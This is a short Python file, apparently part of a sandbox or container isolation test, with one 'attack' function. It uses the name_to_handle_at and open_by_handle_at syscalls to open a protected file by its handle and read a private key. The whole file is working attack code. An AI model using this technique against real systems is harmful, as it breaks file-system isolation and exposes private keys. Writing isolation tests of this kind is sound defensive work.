"""Open a private key by its number in the file system."""

import ctypes
import os


def attack(target):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0" + b"\0" * 136, 140)
    mount = ctypes.c_int()
    path = target.secret.encode()
    target.syscall("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    root = os.open("/usr", os.O_RDONLY)
    descriptor = target.syscall("open_by_handle_at", root, handle, os.O_RDONLY)
    return os.read(descriptor, 1000).decode()
